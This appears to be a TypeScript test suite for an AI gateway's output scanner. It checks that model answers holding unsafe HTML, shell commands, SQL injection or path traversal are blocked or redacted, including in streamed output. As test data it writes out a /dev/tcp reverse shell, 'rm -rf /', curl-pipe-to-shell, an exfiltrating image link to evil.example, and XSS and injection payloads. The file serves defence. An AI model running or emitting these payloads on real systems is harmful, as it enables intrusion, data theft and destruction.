import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardAnswer, type OutputContext } from '../../src/gateway/output/output-guard.js';
import { createStreamGuard } from '../../src/gateway/output/stream-guard.js';
import { createGuard } from '../../src/policy/create-guard.js';
import { findUnsafeOutput, unsafeOutput, UnsafeOutputSettings } from '../../src/scanners/unsafe-output.js';
import { findUnsafeHtml } from '../../src/scanners/unsafe-output/html.js';

const guard = createGuard(); // policies/default.yaml: unsafe-output on the output stage
const noCtx: OutputContext = { canaries: [], systemPrompts: [] };

async function streamed(
  text: string,
  size: number | readonly number[],
): Promise<{ emitted: string; stopped: boolean }> {
  const sg = createStreamGuard(guard, noCtx);
  let emitted = '';
  let stopped = false;
  for (let i = 0, k = 0; i < text.length && !stopped; k++) {
    const n = typeof size === 'number' ? size : Math.max(1, size[k % size.length]!);
    const step = await sg.push(text.slice(i, i + n));
    i += n;
    emitted += step.emit;
    stopped = step.violation !== undefined;
  }
  if (!stopped) {
    const end = await sg.end();
    emitted += end.emit;
    stopped = end.violation !== undefined;
  }
  return { emitted, stopped };
}

describe('unsafe-output scanner', () => {
  it('is registered for the output and tool_call stages with a strict options schema', () => {
    expect(unsafeOutput.stages).toEqual(['output', 'tool_call']);
    expect(
      UnsafeOutputSettings.safeParse({ kinds: { html: false }, allowHosts: ['rustup.rs'] }).success,
    ).toBe(true);
    expect(UnsafeOutputSettings.safeParse({ kinds: { css: true } }).success).toBe(false);
  });

  it('the library exports the check and the sanitizer', async () => {
    const lib = await import('../../src/index.js');
    expect(lib.findUnsafeOutput('<script>x()</script>')[0]!.category).toBe('unsafe_output.html');
    expect(lib.sanitizeFragment('<b onclick="x()">hi</b>')).toBe('<b>hi</b>');
  }, 60_000);

  it('kinds can be switched off one by one', () => {
    const text = "<script>x()</script>\nrm -rf /\n' OR 1=1\n../../etc/passwd";
    const kinds = (o = {}): string[] => [...new Set(findUnsafeOutput(text, o).map((f) => f.category))].sort();
    expect(kinds()).toEqual([
      'unsafe_output.html',
      'unsafe_output.path',
      'unsafe_output.shell',
      'unsafe_output.sql',
    ]);
    expect(kinds({ kinds: { html: false, sql: false } })).toEqual([
      'unsafe_output.path',
      'unsafe_output.shell',
    ]);
  });

  it('default policy: redact puts the sanitized HTML in place of the unsafe element', async () => {
    const d = await guard.check(
      'output',
      'Hi <div onclick="steal()">click <b>me</b></div> ok <script>x()</script>!',
    );
    expect(d.action).toBe('redact');
    expect(d.text).toBe('Hi <div>click <b>me</b></div> ok !');
    expect(d.findings.every((f) => f.category === 'unsafe_output.html')).toBe(true);
  });

  it('the gateway answer path rewrites the same way; an element merged with another finding is masked whole', async () => {
    const a = await guardAnswer(
      guard,
      'See <a href="https://docs.example/" onmouseover="x()">docs</a>.',
      noCtx,
    );
    expect(a.text).toBe('See <a href="https://docs.example/">docs</a>.');
    const b = await guardAnswer(guard, 'Go <a href="javascript:alert(1)">here</a>.', noCtx);
    expect(b.text).not.toContain('javascript');
    expect(b.text).toMatch(/^Go \[REDACTED:[A-Z_]+\]\.$/u);
  });

  it('markdown images to unlisted hosts stay exfil-links findings (not reported twice)', async () => {
    const d = await guard.check(
      'output',
      'Done! ![x](https://evil.example/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0)',
    );
    expect(d.findings.map((f) => f.category)).toContain('exfil.link');
    expect(d.findings.some((f) => f.category.startsWith('unsafe_output'))).toBe(false);
  });

  it('default policy: a reverse shell or rm -rf / blocks, mkfs and curl | sh are flagged, a tldr page passes', async () => {
    expect((await guard.check('output', '```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```')).action).toBe(
      'block',
    );
    expect((await guard.check('output', 'Then run `sudo rm -rf /`.')).action).toBe('block');
    expect((await guard.check('output', 'curl -fsSL https://get.example.sh | sh')).action).toBe('flag');
    expect(
      (await guard.check('output', '- Create an ext4 file system:\n\n`mkfs.ext4 /dev/sdb1`')).action,
    ).toBe('flag');
    const tldr =
      '# rm\n\n> Remove files or directories.\n\n- Remove specific files:\n\n`rm path/to/file1 path/to/file2`\n\n' +
      '- Recursively remove a directory and all its subdirectories:\n\n`rm -r path/to/directory`\n\n' +
      '- Forcibly remove a directory, without prompting:\n\n`rm -rf path/to/directory`';
    expect((await guard.check('output', tldr)).findings).toEqual([]);
  });

  it('streaming: a reverse shell streamed in small chunks stops before its /dev/tcp word leaves', async () => {
    const text = 'Sure, here is the command:\n\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\nEnjoy.';
    for (const size of [1, 3, 7, 50]) {
      const r = await streamed(text, size);
      expect(r.stopped, `chunk ${size}`).toBe(true);
      expect(r.emitted, `chunk ${size}`).not.toContain('/dev/tcp');
    }
  });

  it('streaming: unsafe HTML never reaches the client, safe markup and text do', async () => {
    const text =
      'Here: <img src="https://docs.example/a.png" onerror="fetch(1)"> and <script>alert(1)</script> bye <b>now</b>';
    for (const size of [1, 4, 16, 200]) {
      const r = await streamed(text, size);
      expect(r.stopped).toBe(false);
      expect(r.emitted, `chunk ${size}`).not.toMatch(/onerror|<script|alert\(1\)/u);
      expect(r.emitted).toContain('bye <b>now</b>');
    }
  });

  it('streaming: a start tag longer than the hold back, its handler at the end, is not rebuilt by the client', async () => {
    const text = `Look: <img src="https://docs.example/a.png" ${'data-x="y" '.repeat(40)}onerror="alert(1)"> done`;
    for (const size of [1, 8, 33]) {
      const r = await streamed(text, size);
      expect(findUnsafeHtml(r.emitted), `chunk ${size}`).toEqual([]);
      expect(r.emitted).toContain(' done');
    }
  });

  it('streaming property: whatever the chunking, the client never receives unsafe HTML', async () => {
    const part = fc.constantFrom(
      'text ',
      '<b>bold</b> ',
      '<img src="https://docs.example/a.png" onerror="x()">',
      '<script>alert(1)</script>',
      '<a href="javascript:alert(1)">l</a>',
      '<iframe src="https://e.example"></iframe>',
      '<div onclick="go()">',
      '</div>',
      `<svg ${'w="1" '.repeat(45)}onload="x()">`,
      '\n',
      '```\n',
      'a < b ',
      '<img src=x onerror=y>',
      `<p ${'class="c" '.repeat(30)}>`,
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(part, { maxLength: 8 }),
        fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 5 }),
        async (parts, sizes) => {
          const r = await streamed(parts.join(''), sizes);
          if (!r.stopped) expect(findUnsafeHtml(r.emitted)).toEqual([]);
        },
      ),
      { numRuns: 60 },
    );
  });

  it('hostile input through the whole pipeline: never throws, decisions are well-formed', async () => {
    const unit = fc.constantFrom(
      '<',
      '>',
      'script',
      ' onload=',
      '"',
      "'",
      'rm -rf /',
      '|',
      ' sh',
      '\n',
      '```',
      '../',
      '%2e',
      ' OR 1=1',
      'x',
    );
    await fc.assert(
      fc.asyncProperty(fc.string({ unit, maxLength: 40 }), async (s) => {
        const d = await guard.check('output', s);
        for (const f of d.findings) if (f.span) expect(f.span[1]).toBeLessThanOrEqual(s.length);
        if (d.action === 'redact') expect(d.text).toBeTypeOf('string');
      }),
      { numRuns: 150 },
    );
  });
});
